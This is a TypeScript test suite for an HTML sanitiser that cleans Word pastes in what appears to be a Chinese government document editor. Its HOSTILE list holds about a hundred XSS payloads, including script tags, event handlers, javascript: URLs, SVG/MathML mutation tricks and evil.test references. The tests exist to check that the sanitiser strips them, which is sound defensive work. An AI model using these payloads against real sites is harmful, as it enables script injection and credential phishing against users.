import fc from 'fast-check'
import { Parser } from 'htmlparser2'
import { describe, expect, it } from 'vitest'
import { cleanText, plainText } from './clean.ts'

const KEPT: { readonly [tag: string]: readonly string[] } = {
  ...Object.fromEntries(
    'p h2 h3 h4 ul ol li blockquote hr br strong em u sub sup table caption thead tbody tr'
      .split(' ')
      .map(tag => [tag, []]),
  ),
  p: ['class'],
  a: ['href'],
  img: ['src', 'alt'],
  td: ['colspan', 'rowspan'],
  th: ['colspan', 'rowspan', 'scope'],
}
const ADDRESS = /^(https?:\/\/|mailto:|tel:|\/(?!\/)|#|[^:]*$)/i

/** Whatever a reader of HTML finds in it that has no place in a document. */
function strangers(html: string): readonly string[] {
  const found: string[] = []
  const parser = new Parser({
    onopentag(tag, attributes) {
      if (KEPT[tag] === undefined) found.push(tag)
      for (const [name, value] of Object.entries(attributes)) {
        if (!KEPT[tag]?.includes(name)) found.push(`${tag} ${name}`)
        if (name === 'href' && (!ADDRESS.test(value) || /^\/\//.test(value))) found.push(`${tag} ${value}`)
        if (name === 'src' && !/^\/documents\/20\d{9}\/files\/\d+$/.test(value)) found.push(`${tag} ${value}`)
        if (name === 'class' && value !== 'right' && value !== 'center') found.push(`${tag} ${value}`)
      }
    },
    oncomment: comment => found.push(`comment ${comment}`),
    onprocessinginstruction: name => found.push(name),
  })
  parser.end(html)
  return found
}

/** Word wraps a paste in a page of its own, with comments only it understands. */
const WORD = `<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">
<head><meta name=Generator content="Microsoft Word 15"><style><!-- p.MsoNormal {margin:0cm;} --></style>
<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml><![endif]--></head>
<body lang=ZH-CN style='tab-interval:21.0pt'><!--StartFragment-->
<h1 style='text-align:center'><span style='font-family:方正小标宋简体'>关于印发办法的通知<o:p></o:p></span></h1>
<p class=MsoNormal style='text-indent:32.0pt'><span style='font-size:16.0pt;font-family:仿宋_GB2312'>　　各区人民政府：<span lang=EN-US><o:p></o:p></span></span></p>
<p class=MsoNormal><span lang=EN-US><o:p>&nbsp;</o:p></span></p>
<p class=MsoListParagraph>&nbsp;&nbsp;&nbsp;&nbsp;<![if !supportLists]><span>一、</span><![endif]><b><font color=red face=黑体>总体要求</font></b></p>
<table class=MsoTableGrid border=1 style='border-collapse:collapse'><tr style='height:1cm'><td width=100 valign=top colspan=2 style='width:75pt'><p class=MsoNormal>名称<o:p></o:p></p></td></tr></table>
<p class=MsoNormal align=right style='text-align:right'>明州市人民政府</p>
<!--EndFragment--></body></html>`

describe('paste from Word', () => {
  const clean = cleanText(WORD)

  it('leaves the words and the shape, and nothing of Word', () => {
    expect(strangers(clean)).toEqual([])
    expect(clean).not.toMatch(/Mso|o:p|style|font|lang|supportLists|endif|Generator|margin/)
    expect(clean).toContain('<h2>关于印发办法的通知</h2>')
    expect(clean).toContain('<p>各区人民政府：</p>')
    expect(clean).toContain('<p>一、<strong>总体要求</strong></p>')
    expect(clean).toContain('<td colspan="2"><p>名称</p></td>')
    expect(clean).toContain('<p class="right">明州市人民政府</p>')
  })

  const SMALL: readonly (readonly [string, string])[] = [
    ['<p>&nbsp;</p><p>甲</p><p> \n </p><p>　</p>', '<p>甲</p>'],
    ['<p>　　甲乙</p>', '<p>甲乙</p>'],
    ['<p><span>　　</span><span>甲乙</span></p>', '<p>甲乙</p>'],
    ['<p><strong>　　甲</strong>乙</p>', '<p><strong>甲</strong>乙</p>'],
    ['<p>&nbsp; &nbsp;甲&nbsp;乙</p>', '<p>甲 乙</p>'],
    ['<p style="text-align: right">甲</p>', '<p class="right">甲</p>'],
    ['<p style="text-align:center;color:red">甲</p>', '<p class="center">甲</p>'],
    ['<p style="margin-right:2cm">甲</p>', '<p>甲</p>'],
    ['<p><span></span></p><p><br></p><p>甲</p>', '<p>甲</p>'],
    ['<p><strong></strong></p><p>甲</p>', '<p>甲</p>'],
    ['<center>甲</center>', '<p class="center">甲</p>'],
    ['<h1>甲</h1><h5>乙</h5><h6>丙</h6>', '<h2>甲</h2><h4>乙</h4><h4>丙</h4>'],
    ['<!--[if !mso]><p>看不见</p><![endif]--><p>甲</p>', '<p>甲</p>'],
    ['<p class="MsoNormal right-side">甲</p>', '<p>甲</p>'],
  ]
  it.each(SMALL)('%s → %s', (given, kept) => {
    expect(cleanText(given)).toBe(kept)
  })
})

const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>甲',
  '<SCRIPT SRC=http://evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/xss src=//evil.test></script>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1);//<</script>',
  '<script>a<!--</script>甲<img src=x onerror=alert(1)>--></script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><script>alert(1)</script></title>',
  '<listing>&lt;script&gt;</listing>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>甲</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><foreignObject><iframe src=//evil.test></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz4="></use></svg>',
  '<math><mi xlink:href="javascript:alert(1)">甲</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)" alt="甲">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="data:image/png;base64,iVBORw0KGgo=">',
  '<img src="//evil.test/pixel.gif">',
  '<img src="https://evil.test/pixel.gif">',
  '<img srcset="https://evil.test/a.png 2x" src="/documents/20260000001/files/1">',
  '<img src="/documents/20260000001/files/1/../../../sign-out">',
  '<img src="/documents/20260000001/files/1" onload="alert(1)" style="position:fixed">',
  '<img/src/onerror=alert(1)>',
  '<img src=`x` onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<image src=x onerror=alert(1)>',
  '<picture><source srcset="//evil.test/a"><img src=x></picture>',
  '<a href="javascript:alert(1)">甲</a>',
  '<a href="JaVaScRiPt:alert(1)">甲</a>',
  '<a href="  javascript:alert(1)">甲</a>',
  '<a href="java\tscript:alert(1)">甲</a>',
  '<a href="java\nscript:alert(1)">甲</a>',
  '<a href="java&#x09;script:alert(1)">甲</a>',
  '<a href="&#106;avascript&colon;alert(1)">甲</a>',
  '<a href="\u0001javascript:alert(1)">甲</a>',
  '<a href="java\u0000script:alert(1)">甲</a>',
  '<a href="vbscript:msgbox(1)">甲</a>',
  '<a href="data:text/html,<script>alert(1)</script>">甲</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">甲</a>',
  '<a href="blob:https://evil.test/1">甲</a>',
  '<a href="file:///etc/passwd">甲</a>',
  '<a href="//evil.test">甲</a>',
  '<a href="\\\\evil.test\\x">甲</a>',
  '<a href="/\\evil.test">甲</a>',
  '<a href="/\t/evil.test">甲</a>',
  '<a href=https://a.test onmouseover=alert(1) target=_blank>甲</a>',
  '<a href=https://a.test style="position:fixed;inset:0">甲</a>',
  '<iframe src="https://evil.test"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="evil.swf"><param name=x></object>',
  '<embed src="evil.swf">',
  '<applet code=evil></applet>',
  '<form action="https://evil.test"><input name=password><button>登录</button></form>',
  '<button formaction="javascript:alert(1)">甲</button>',
  '<input onfocus=alert(1) autofocus>',
  '<select onchange=alert(1)><option>甲</option></select>',
  '<keygen autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>甲</details>',
  '<marquee onstart=alert(1)>甲</marquee>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<body onload=alert(1)>甲',
  '<link rel=stylesheet href="//evil.test/x.css">',
  '<style>@import "//evil.test/x.css";</style>',
  '<style><!--</style><script>alert(1)//--></script>',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<base href="https://evil.test/">',
  '<p style="background:url(javascript:alert(1))">甲</p>',
  '<p style="text-align:right;behavior:url(x.htc)">甲</p>',
  '<p id="location" name="cookie" class="btn right" data-once>甲</p>',
  '<p align="right"><script>alert(1)</script>">甲</p>',
  '<p onclick="alert(1)" contenteditable tabindex=1 accesskey=x>甲</p>',
  '<table background="javascript:alert(1)"><tr><td background=x onclick=y>甲</td></tr></table>',
  '<td colspan="2" rowspan="javascript:1">甲</td>',
  '<custom-element onclick=alert(1)>甲</custom-element>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!--><script>alert(1)</script>-->',
  '<!--!><img src=x onerror=alert(1)>-->',
  '<?xml version="1.0"?><?php echo 1 ?>甲',
  '<!DOCTYPE html [<!ENTITY x "<script>">]>&x;',
  '</p></table><script>alert(1)',
  '<p><a href="https://a.test"><a href="javascript:alert(1)">甲',
  '<a href="https://a.test/<script>alert(1)</script>">甲</a>',
  '\u{feff}<script>alert(1)</script>\u{202e}甲',
  '<v:shape><v:imagedata src="file:///C:/a.png" onload=x></v:imagedata></v:shape>',
  '<o:p onclick=alert(1)>甲</o:p>',
]

describe('what is hostile', () => {
  it.each(HOSTILE)('%s', given => {
    const clean = cleanText(given)
    expect(strangers(clean)).toEqual([])
    expect(cleanText(clean)).toBe(clean)
  })

  it('never survives however it is put together', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        ...HOSTILE,
        '<p>',
        '</p>',
        '<',
        '>',
        '"',
        "'",
        '&',
        '&lt;',
        '　　',
        '&nbsp;',
        '<!--',
        '-->',
      ),
      fc.string(),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), pieces => {
        const clean = cleanText(pieces.join(''))
        expect(strangers(clean)).toEqual([])
      }),
      { numRuns: 400 },
    )
  })
})

describe('a note', () => {
  const NOTES: readonly (readonly [string, string])[] = [
    ['见<b>第三条</b>、<i>试行</i>', '见<strong>第三条</strong>、<em>试行</em>'],
    ['<a href="https://a.test/" onclick="x()">甲</a>', '<a href="https://a.test/">甲</a>'],
    ['<p>甲</p><p>乙</p>', '甲 乙'],
    ['甲<br>乙<img src="/documents/20260000001/files/1" alt="图">', '甲 乙'],
    ['<table><tr><td>甲</td><td><strong>乙</strong></td></tr></table>', '甲 <strong>乙</strong>'],
    ['<strong><a href="#x">甲</a></strong><em></em>', '<strong>甲</strong>'],
    ['甲<small class="note">乙</small>', '甲乙'],
    ['<script>alert(1)</script>甲', '甲'],
  ]
  it.each(NOTES)('%s → %s', (given, kept) => {
    const clean = cleanText(`<p>正文<small class="note">${given}</small></p>`)
    expect(clean).toBe(`<p>正文<small class="note">${kept}</small></p>`)
    expect(cleanText(clean)).toBe(clean)
  })

  it.each(['', ' <b> </b>', '<p></p>', '<img src="x">'])('without words is none: %s', given => {
    expect(cleanText(`<p>正文<small class="note">${given}</small></p>`)).toBe('<p>正文</p>')
  })

  it.each(HOSTILE)('is as clean as the text: %s', given => {
    const clean = cleanText(`<p>正文<small class="note">${given}</small></p>`)
    expect(strangers(clean.replaceAll(/<small class="note">|<\/small>/g, ''))).toEqual([])
    expect(cleanText(clean)).toBe(clean)
  })
})

describe('cleaning again', () => {
  it('changes nothing, whatever it was', () => {
    const tag = fc.constantFrom(
      'p',
      'h1',
      'h3',
      'div',
      'b',
      'span',
      'table',
      'tr',
      'td',
      'li',
      'ul',
      'img',
      'br',
      'a',
    )
    const text = fc.constantFrom('甲', '　　', '&nbsp;', ' ', '\n', '&lt;b&gt;', '&amp;nbsp;', '乙 ', '')
    const some = fc.oneof(
      text,
      tag.map(name => `<${name}>`),
      tag.map(name => `</${name}>`),
      tag.map(
        name =>
          `<${name} align="right" style="text-align:center" href="/x" src="/office/documents/20260000001/files/1">`,
      ),
    )
    fc.assert(
      fc.property(fc.array(some, { maxLength: 14 }), pieces => {
        const once = cleanText(pieces.join(''))
        expect(cleanText(once)).toBe(once)
      }),
      { numRuns: 800 },
    )
  })
})

describe('plainText', () => {
  it('gives paragraphs and rows as lines, and cells apart', () => {
    expect(
      plainText('<p>甲</p><table><tbody><tr><td>乙</td><td>丙 &lt;1&gt;</td></tr></tbody></table>'),
    ).toBe('甲\n乙\t丙 <1>')
  })
  it('shows what was written as text, once', () => {
    expect(plainText('<p>&amp;lt;b&amp;gt;</p>')).toBe('&lt;b&gt;')
  })
})
